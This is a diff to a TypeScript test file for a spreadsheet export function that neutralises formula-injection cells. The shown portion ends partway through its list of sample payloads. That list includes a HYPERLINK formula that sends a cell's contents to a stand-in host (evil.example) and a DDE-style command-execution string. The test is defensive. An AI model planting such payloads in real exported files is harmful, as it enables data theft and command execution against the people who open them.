@@ -1,16 +1,18 @@
 import { parse } from 'csv-parse/sync'
 import ExcelJS from 'exceljs'
 import type { TFunction } from 'i18next'
+import type { ExportColumn } from '../../src/resources/kit'
 import { describe, expect, it } from 'vitest'
 import { exportStream, neutralise } from './export'
 
 /** Issue 17 item 6: a text cell a spreadsheet would run as a formula is exported as text. */
 
 const t = ((key: string) => key) as unknown as TFunction
+// Headers are i18n keys; `t` here answers the key itself.
 const columns = [
   { key: 'name', label: 'Name' },
   { key: 'amount', label: 'Amount' },
-]
+] as unknown as ExportColumn[]
 const DANGEROUS = [
   '=HYPERLINK("http://evil.example/?q="&A1,"x")',
   '+1+cmd|/C calc!A0',
